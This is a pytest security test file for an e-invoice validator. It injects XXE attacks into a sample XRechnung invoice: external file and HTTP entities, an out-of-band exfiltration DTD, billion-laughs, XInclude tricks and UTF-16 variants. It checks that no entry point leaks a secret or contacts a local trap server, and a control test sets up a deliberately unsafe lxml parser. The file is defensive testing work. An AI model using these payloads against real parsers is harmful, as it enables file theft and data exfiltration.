"""An XXE attempt never leaks a secret, through any entry point.

Every hostile document below is the valid XRechnung UBL example with one attack injected (written here, never
downloaded). A secret file holds a random marker and a local HTTP server (127.0.0.1 only) records every
connection it gets and would hand out the marker too. For every document and every entry point (the module-level
``validate`` on a path, bytes and a file object, ``Validator``, the CLI in three formats and as a real subprocess,
and the batch API in and out of process) the test proves three things:

* the marker appears in no output (reports and errors serialised, stdout and stderr at file-descriptor level,
  the subprocess's output),
* the HTTP server got no connection at all,
* the outcome is the expected one: DOCTYPE, entity, external DTD, parameter-entity, billion-laughs and XInclude
  attacks (also in UTF-16 with a BOM, XInclude also in its 2003 namespace, with the namespace spelled in character
  references and inside a Peppol SBDH envelope) are refused with ``document.unreadable`` (reason ``doctype`` /
  ``xinclude``);
  ``xsi:schemaLocation`` hints (also in a document large enough to reach Saxon as a file, and on an SBDH envelope)
  and an ``xml-stylesheet`` processing instruction are ignored and the invoice is validated normally (valid).

A control test shows that the trap is not blind: a careless lxml parser given the same documents does leak the
marker or call the server.
"""

from __future__ import annotations

import http.server
import io
import json
import os
import re
import select
import socket
import subprocess
import sys
import threading
import traceback
import urllib.request
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal

import pytest
from lxml import etree

import einvoice_validate
from einvoice_validate import (
    BatchResult,
    BatchValidator,
    EInvoiceValidateError,
    Finding,
    Report,
    Severity,
    Validator,
    iter_validate,
    validate_many,
)
from einvoice_validate.cli import main
from einvoice_validate.rulesets import Registry

REPO = Path(__file__).resolve().parents[2]
EXAMPLE = REPO / "examples" / "xrechnung-ubl-invoice.xml"
FORBIDDEN = "document.unreadable"  # with reason doctype / xinclude: "refused" in the detail
XML_DECL = b'<?xml version="1.0" encoding="UTF-8"?>\n'
ROOT_OPEN = b"<ubl:Invoice "
NOTE = re.compile(rb"<cbc:Note>[^<]*</cbc:Note>")  # the first of two: the hostile content goes there
XINCLUDE_NS = "http://www.w3.org/2001/XInclude"
XINCLUDE_OLD_NS = "http://www.w3.org/2003/XInclude"  # libxml2 still processes it
XSI_NS = "http://www.w3.org/2001/XMLSchema-instance"
UBL_INVOICE_NS = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
SBDH_NS = "http://www.unece.org/cefact/namespaces/StandardBusinessDocumentHeader"

Expected = Literal["forbidden", "valid"]


# --- the trap: a secret file and a recording HTTP server ----------------------------------------------------


class _RecordingServer(http.server.HTTPServer):
    """Records every accepted connection (before any byte is read) and every request line."""

    def __init__(self, trap: Trap) -> None:
        self.trap = trap
        super().__init__(("127.0.0.1", 0), _Handler)

    def verify_request(self, request: socket.socket | tuple[bytes, socket.socket], client_address: object) -> bool:
        self.trap.log.append(f"connection from {client_address}")
        return True


class _Handler(http.server.BaseHTTPRequestHandler):
    """Answers like a cooperative attacker's server would: an exfiltrating DTD, or the marker itself."""

    server: _RecordingServer
    timeout = 5

    def _answer(self) -> None:
        trap = self.server.trap
        trap.log.append(f"request {self.requestline!r}")
        body = trap.dtd().encode() if self.path.endswith(".dtd") else trap.marker.encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/xml-dtd" if self.path.endswith(".dtd") else "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_HEAD = _answer

    def log_message(self, format: str, *args: object) -> None:
        pass  # quiet: the log is ours


@dataclass
class Trap:
    """A secret file with a unique marker and a local HTTP server that would serve it."""

    secret: Path
    marker: str
    log: list[str] = field(default_factory=list)
    server: _RecordingServer | None = None
    thread: threading.Thread | None = None

    @property
    def base(self) -> str:
        assert self.server is not None
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    @property
    def secret_uri(self) -> str:
        return self.secret.as_uri()

    def dtd(self) -> str:
        """The classic out-of-band exfiltration DTD: reads the secret and sends it back in a URL."""
        return (
            f'<!ENTITY % file SYSTEM "{self.secret_uri}">\n'
            f"<!ENTITY % wrap \"<!ENTITY &#x25; leak SYSTEM '{self.base}/leak?%file;'>\">\n"
            "%wrap;\n%leak;\n"
            f'<!ENTITY x "{self.marker}">\n'
        )

    def start(self) -> None:
        self.server = _RecordingServer(self)
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
        self.thread.start()

    def hits(self) -> list[str]:
        """Stop serving, then also record connections still waiting in the listen queue; everything seen.

        A client's ``connect`` completes as soon as the kernel queues it, so a fetch made by the code under test
        (which has returned by now) is either served and logged or still waiting in the queue."""
        assert self.server is not None and self.thread is not None
        if self.thread.is_alive():
            self.server.shutdown()
            self.thread.join(5)
        sock = self.server.socket
        while select.select([sock], [], [], 0)[0]:
            conn, address = sock.accept()
            conn.close()
            self.log.append(f"connection from {address} (never served)")
        return list(self.log)

    def stop(self) -> None:
        if self.server is not None:
            if self.thread is not None and self.thread.is_alive():
                self.server.shutdown()
                self.thread.join(5)
            self.server.server_close()


@pytest.fixture
def trap(tmp_path: Path) -> Iterator[Trap]:
    secret = tmp_path / "secret" / "secret.txt"
    secret.parent.mkdir()
    marker = f"SECRET-{uuid.uuid4()}"
    secret.write_text(marker, encoding="ascii")
    t = Trap(secret=secret, marker=marker)
    t.start()
    try:
        yield t
    finally:
        t.stop()


# --- the hostile documents ----------------------------------------------------------------------------------


def _example() -> bytes:
    data = EXAMPLE.read_bytes()
    assert data.startswith(XML_DECL) and data.count(ROOT_OPEN) == 1 and NOTE.search(data) is not None
    return data


def _with_note(data: bytes, content: bytes) -> bytes:
    return NOTE.sub(lambda _: b"<cbc:Note>" + content + b"</cbc:Note>", data, count=1)


def _after_decl(data: bytes, markup: str) -> bytes:
    return data.replace(XML_DECL, XML_DECL + markup.encode() + b"\n", 1)


def _before_root(data: bytes, markup: str) -> bytes:
    """Just before the root element: after the example's comment, so the prolog scan must skip that comment."""
    return data.replace(ROOT_OPEN, markup.encode() + b"\n" + ROOT_OPEN, 1)


def file_entity(t: Trap) -> bytes:
    doctype = f'<!DOCTYPE ubl:Invoice [\n  <!ENTITY x SYSTEM "{t.secret_uri}">\n]>'
    return _with_note(_before_root(_example(), doctype), b"&x;")


def http_entity(t: Trap) -> bytes:
    doctype = f'<!DOCTYPE ubl:Invoice [<!ENTITY x SYSTEM "{t.base}/secret.txt">]>'
    return _with_note(_after_decl(_example(), doctype), b"&x;")


def external_dtd(t: Trap) -> bytes:
    doctype = f'<!DOCTYPE ubl:Invoice SYSTEM "{t.base}/x.dtd">'
    return _with_note(_after_decl(_example(), doctype), b"&x;")


def parameter_entity(t: Trap) -> bytes:
    doctype = f'<!DOCTYPE ubl:Invoice [\n  <!ENTITY % remote SYSTEM "{t.base}/x.dtd">\n  %remote;\n]>'
    return _with_note(_after_decl(_example(), doctype), b"&x;")


def billion_laughs(t: Trap) -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    doctype = "<!DOCTYPE ubl:Invoice [\n  " + "\n  ".join(entities) + "\n]>"
    return _with_note(_after_decl(_example(), doctype), b"&lol9;")


def _xinclude(t: Trap, namespace: str = XINCLUDE_NS) -> bytes:
    return f'<xi:include xmlns:xi="{namespace}" href="{t.secret_uri}" parse="text"/>'.encode()


def xinclude_sibling(t: Trap) -> bytes:
    data = _example()
    note = NOTE.search(data)
    assert note is not None
    return data[: note.end()] + _xinclude(t) + data[note.end() :]


def xinclude_in_note(t: Trap) -> bytes:
    return _with_note(_example(), _xinclude(t))


def xinclude_2003_namespace(t: Trap) -> bytes:
    return _with_note(_example(), _xinclude(t, XINCLUDE_OLD_NS))


def xinclude_charref_namespace(t: Trap) -> bytes:
    """The XInclude namespace spelled with character references: only the parsed tree shows what it is."""
    return _with_note(_example(), _xinclude(t, XINCLUDE_NS.replace(":", "&#x3a;").replace("/", "&#47;")))


def _sbdh(invoice: bytes, header_extra: bytes = b"", root_extra: bytes = b"") -> bytes:
    """The invoice inside a Peppol StandardBusinessDocument envelope."""
    body = invoice.removeprefix(XML_DECL)
    return (
        XML_DECL
        + f'<StandardBusinessDocument xmlns="{SBDH_NS}"'.encode()
        + root_extra
        + b">\n<StandardBusinessDocumentHeader><HeaderVersion>1.0</HeaderVersion>"
        + header_extra
        + b"</StandardBusinessDocumentHeader>\n"
        + body
        + b"</StandardBusinessDocument>\n"
    )


def xinclude_name_in_charrefs(t: Trap) -> bytes:
    """The namespace's "XInclude" spelled in character references: the bytes hold neither "XInclude" nor a colon."""
    spelled = "".join(f"&#{ord(c)};" for c in "XInclude")
    return _with_note(_example(), _xinclude(t, XINCLUDE_NS.replace("XInclude", spelled)))


def sbdh_xinclude_in_header(t: Trap) -> bytes:
    return _sbdh(_example(), header_extra=_xinclude(t))


def sbdh_schema_location(t: Trap) -> bytes:
    hint = f' xmlns:xsi="{XSI_NS}" xsi:schemaLocation="{SBDH_NS} {t.base}/sbdh.xsd"'.encode()
    return _sbdh(schema_location(t), root_extra=hint)


def schema_location(t: Trap) -> bytes:
    hints = (
        f'xmlns:xsi="{XSI_NS}" '
        f'xsi:schemaLocation="{UBL_INVOICE_NS} {t.base}/schema.xsd urn:example:other {t.secret_uri}" '
        f'xsi:noNamespaceSchemaLocation="{t.base}/no-namespace.xsd" '
    )
    return _example().replace(ROOT_OPEN, ROOT_OPEN + hints.encode(), 1)


def schema_location_large(t: Trap) -> bytes:
    """Over 64 KiB, so Saxon reads the document from a file with its own parser rather than from a string."""
    data = schema_location(t)
    note = NOTE.search(data)
    assert note is not None
    padding = b"<!-- " + b"padding " * 10_000 + b"-->"
    return data[: note.end()] + padding + data[note.end() :]


def xml_stylesheet(t: Trap) -> bytes:
    return _after_decl(_example(), f'<?xml-stylesheet type="text/xsl" href="{t.base}/s.xsl"?>')


def _utf16(build: Callable[[Trap], bytes], codec: Literal["utf-16-le", "utf-16-be"]) -> Callable[[Trap], bytes]:
    bom = b"\xff\xfe" if codec == "utf-16-le" else b"\xfe\xff"

    def utf16(t: Trap) -> bytes:
        text = build(t).decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
        assert 'encoding="UTF-16"' in text
        return bom + text.encode(codec)

    return utf16


@dataclass(frozen=True)
class Hostile:
    name: str
    build: Callable[[Trap], bytes]
    expected: Expected


DOCUMENTS = [
    Hostile("file-entity", file_entity, "forbidden"),
    Hostile("http-entity", http_entity, "forbidden"),
    Hostile("external-dtd", external_dtd, "forbidden"),
    Hostile("parameter-entity", parameter_entity, "forbidden"),
    Hostile("billion-laughs", billion_laughs, "forbidden"),
    Hostile("xinclude-sibling", xinclude_sibling, "forbidden"),
    Hostile("xinclude-in-note", xinclude_in_note, "forbidden"),
    Hostile("xinclude-2003-namespace", xinclude_2003_namespace, "forbidden"),
    Hostile("xinclude-charref-namespace", xinclude_charref_namespace, "forbidden"),
    Hostile("xinclude-name-in-charrefs", xinclude_name_in_charrefs, "forbidden"),
    Hostile("sbdh-xinclude-in-header", sbdh_xinclude_in_header, "forbidden"),
    Hostile("schema-location", schema_location, "valid"),
    Hostile("sbdh-schema-location", sbdh_schema_location, "valid"),
    Hostile("schema-location-large", schema_location_large, "valid"),
    Hostile("xml-stylesheet", xml_stylesheet, "valid"),
    Hostile("utf16le-bom-file-entity", _utf16(file_entity, "utf-16-le"), "forbidden"),
    Hostile("utf16be-bom-http-entity", _utf16(http_entity, "utf-16-be"), "forbidden"),
    Hostile("utf16le-bom-external-dtd", _utf16(external_dtd, "utf-16-le"), "forbidden"),
    Hostile("utf16be-bom-parameter-entity", _utf16(parameter_entity, "utf-16-be"), "forbidden"),
]


# --- the entry points ---------------------------------------------------------------------------------------


@dataclass
class Outcome:
    """What one entry point made of one document: an error code, or a report's verdict, plus all its text."""

    code: str | None = None
    valid: bool | None = None
    texts: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class Case:
    path: Path
    data: bytes
    home: Path
    validator: Validator
    batch: BatchValidator


def _texts_of_report(report: Report) -> list[str]:
    return [report.model_dump_json(by_alias=True), repr(report), str(report)]


def _texts_of_error(exc: BaseException) -> list[str]:
    texts = [str(exc), repr(exc), "".join(traceback.format_exception(exc))]
    if isinstance(exc, EInvoiceValidateError):
        texts += [exc.detail, json.dumps(exc.to_dict(), ensure_ascii=False), exc.message.en, exc.message.de]
    return texts


def _call(fn: Callable[[], Report]) -> Outcome:
    try:
        report = fn()
    except EInvoiceValidateError as exc:
        return Outcome(code=exc.code, texts=_texts_of_error(exc))
    return Outcome(valid=report.valid, texts=_texts_of_report(report))


def _findings(fn: Callable[[], list[Finding]]) -> Outcome:
    try:
        findings = fn()
    except EInvoiceValidateError as exc:
        return Outcome(code=exc.code, texts=_texts_of_error(exc))
    return Outcome(
        valid=not any(f.severity is Severity.ERROR for f in findings),
        texts=[f.model_dump_json(by_alias=True) for f in findings],
    )


def _batch(results: list[BatchResult], expected_count: int) -> list[Outcome]:
    assert len(results) == expected_count
    outcomes = []
    for r in results:
        texts = [r.model_dump_json(by_alias=True), repr(r)]
        assert (r.report is None) != (r.error is None)
        if r.error is not None:
            texts += [json.dumps(r.error.to_dict(), ensure_ascii=False), r.error.message.en, r.error.message.de]
            outcomes.append(Outcome(code=r.error.code, texts=texts))
        else:
            assert r.report is not None
            outcomes.append(Outcome(valid=r.report.valid, texts=texts + _texts_of_report(r.report)))
    return outcomes


def api_path(c: Case) -> list[Outcome]:
    return [_call(lambda: einvoice_validate.validate(str(c.path)))]


def api_pathlike(c: Case) -> list[Outcome]:
    return [_call(lambda: einvoice_validate.validate(c.path))]


def api_bytes(c: Case) -> list[Outcome]:
    return [_call(lambda: einvoice_validate.validate(c.data))]


def api_file(c: Case) -> list[Outcome]:
    with c.path.open("rb") as fh:
        return [_call(lambda: einvoice_validate.validate(fh))]


def validator_new_bytesio(c: Case) -> list[Outcome]:
    return [_call(lambda: Validator().validate(io.BytesIO(c.data)))]


def validator_shared_path(c: Case) -> list[Outcome]:
    return [_call(lambda: c.validator.validate(c.path))]


def validator_iter_findings(c: Case) -> list[Outcome]:
    return [_findings(lambda: list(c.validator.iter_findings(c.data)))]


def _cli(c: Case, fmt: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(["--home", str(c.home), "validate", "--format", fmt, str(c.path)], stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


def _from_row(row: dict[str, object], exit_code: int, texts: list[str]) -> Outcome:
    error = row["error"]
    if error is not None:
        assert isinstance(error, dict)
        assert exit_code == 2, texts
        return Outcome(code=str(error["code"]), texts=texts)
    assert isinstance(row["valid"], bool)
    assert exit_code == (0 if row["valid"] else 1), texts
    return Outcome(valid=row["valid"], texts=texts)


def cli_jsonl(c: Case) -> list[Outcome]:
    exit_code, out, err = _cli(c, "jsonl")
    rows = [json.loads(line) for line in out.splitlines()]
    assert len(rows) == 1, (out, err)
    return [_from_row(rows[0], exit_code, [out, err])]


def cli_json(c: Case) -> list[Outcome]:
    exit_code, out, err = _cli(c, "json")
    rows = json.loads(out)
    assert isinstance(rows, list) and len(rows) == 1, (out, err)
    return [_from_row(rows[0], exit_code, [out, err])]


def cli_text(c: Case) -> list[Outcome]:
    exit_code, out, err = _cli(c, "text")
    first = out.splitlines()[0] if out else ""
    refused = re.match(rf"{re.escape(str(c.path))}: NOT VALIDATED: .* \(([a-z.-]+)\)$", first)
    if refused:
        assert exit_code == 2, (out, err)
        return [Outcome(code=refused.group(1), texts=[out, err])]
    verdict = re.match(rf"{re.escape(str(c.path))}: (valid|INVALID)\b", first)
    assert verdict is not None, (out, err)
    assert exit_code == (0 if verdict.group(1) == "valid" else 1), (out, err)
    return [Outcome(valid=verdict.group(1) == "valid", texts=[out, err])]


def cli_subprocess(c: Case) -> list[Outcome]:
    env = {
        **os.environ,
        "EINVOICE_VALIDATE_HOME": str(c.home),
        "PYTHONPATH": os.pathsep.join(p for p in (str(REPO / "src"), os.environ.get("PYTHONPATH")) if p),
    }
    proc = subprocess.run(
        [sys.executable, "-m", "einvoice_validate", "validate", "--format", "jsonl", str(c.path)],
        capture_output=True,
        env=env,
        timeout=120,
    )
    out = proc.stdout.decode("utf-8", errors="replace")
    err = proc.stderr.decode("utf-8", errors="replace")
    rows = [json.loads(line) for line in out.splitlines()]
    assert len(rows) == 1, (proc.returncode, out, err)
    return [_from_row(rows[0], proc.returncode, [out, err])]


def batch_validate_many_workers2(c: Case) -> list[Outcome]:
    return _batch(validate_many([c.path, c.data], workers=2, rules_home=c.home), 2)


def batch_iter_validate_in_process(c: Case) -> list[Outcome]:
    with c.path.open("rb") as fh:
        return _batch(list(iter_validate([fh, str(c.path)], workers=1, rules_home=c.home)), 2)


def batch_validator_reused(c: Case) -> list[Outcome]:
    return _batch(c.batch.validate_many([c.data, str(c.path)]), 2)


ENTRY_POINTS: dict[str, Callable[[Case], list[Outcome]]] = {
    "api-validate-path": api_path,
    "api-validate-pathlike": api_pathlike,
    "api-validate-bytes": api_bytes,
    "api-validate-file": api_file,
    "Validator-new-bytesio": validator_new_bytesio,
    "Validator-shared-path": validator_shared_path,
    "Validator-iter_findings": validator_iter_findings,
    "cli-jsonl": cli_jsonl,
    "cli-json": cli_json,
    "cli-text": cli_text,
    "cli-subprocess-jsonl": cli_subprocess,
    "batch-validate_many-workers2": batch_validate_many_workers2,
    "batch-iter_validate-workers1": batch_iter_validate_in_process,
    "batch-BatchValidator-reused": batch_validator_reused,
}


@pytest.fixture(scope="module")
def batch(registry: Registry) -> Iterator[BatchValidator]:
    with BatchValidator(workers=2, rules_home=registry.home) as b:
        yield b


@pytest.fixture(scope="module", autouse=True)
def _default_home_is_the_test_home(registry: Registry) -> None:
    """``validate()`` and ``Validator()`` read the rules home from the environment: it must be the tested one."""
    assert Validator().registry.home == registry.home


# --- the test -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("entry", list(ENTRY_POINTS))
@pytest.mark.parametrize("hostile", DOCUMENTS, ids=[d.name for d in DOCUMENTS])
def test_no_leak(
    hostile: Hostile,
    entry: str,
    trap: Trap,
    tmp_path: Path,
    registry: Registry,
    validator: Validator,
    batch: BatchValidator,
    capfd: pytest.CaptureFixture[str],
) -> None:
    data = hostile.build(trap)
    assert trap.marker.encode() not in data  # the marker can only come from resolving a reference
    path = tmp_path / f"{hostile.name}.xml"
    path.write_bytes(data)
    case = Case(path=path, data=data, home=registry.home, validator=validator, batch=batch)

    outcomes = ENTRY_POINTS[entry](case)
    captured = capfd.readouterr()

    # 1. Nothing leaked, in any output.
    haystack = [captured.out, captured.err, *(text for o in outcomes for text in o.texts)]
    leaks = [text for text in haystack if trap.marker in text]
    assert not leaks, f"the secret leaked through {entry}: {leaks[0][:2000]}"
    # 2. Nothing was fetched: not one connection to the local server.
    assert trap.hits() == []
    # 3. The expected outcome, for every result the entry point gave.
    assert outcomes
    for outcome in outcomes:
        if hostile.expected == "forbidden":
            assert (outcome.code, outcome.valid) == (FORBIDDEN, None), outcome.texts[0][:2000]
            assert "refused (never resolved)" in " ".join(outcome.texts), outcome.texts[0][:2000]
        else:
            assert (outcome.code, outcome.valid) == (None, True), outcome.texts[0][:2000]


# --- the trap itself works ----------------------------------------------------------------------------------


NAIVE = {
    "file-entity": file_entity,
    "http-entity": http_entity,
    "external-dtd": external_dtd,
    "parameter-entity": parameter_entity,
    "xinclude-in-note": xinclude_in_note,
}


class _HttpResolver(etree.Resolver):
    """What a careless application adds when its libxml2 has no HTTP client of its own: fetch http:// URLs."""

    def resolve(  # type: ignore[override]  # (lxml-stubs) the real method also gets the context
        self, system_url: str | None, public_id: str | None, context: object
    ) -> object:
        if system_url and system_url.startswith("http://127.0.0.1:"):
            with urllib.request.urlopen(system_url, timeout=5) as response:
                return self.resolve_string(response.read(), context, base_url=system_url)
        return None


@pytest.mark.parametrize("name", list(NAIVE))
def test_the_trap_catches_a_naive_parser(name: str, trap: Trap) -> None:
    """Control: a careless lxml parser (entities, DTDs, XInclude and HTTP on) leaks the marker or calls the server
    on these very documents, so ``test_no_leak`` would notice a library that parses the same way."""
    naive = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=False, huge_tree=True)
    naive.resolvers.add(_HttpResolver())
    try:
        tree = etree.fromstring(NAIVE[name](trap), naive).getroottree()
        tree.xinclude()
        text = etree.tostring(tree, encoding="unicode")
    except (etree.LxmlError, OSError) as exc:  # e.g. the parser gives up after the exfiltrating fetch
        text = str(exc)
    hits = trap.hits()
    if name in ("file-entity", "xinclude-in-note"):
        assert trap.marker in text, text[:500]
    else:
        assert hits, text[:500]
    if name == "parameter-entity":  # the out-of-band DTD sent the secret to the server in a URL
        assert any(f"/leak?{trap.marker}" in hit for hit in hits), hits
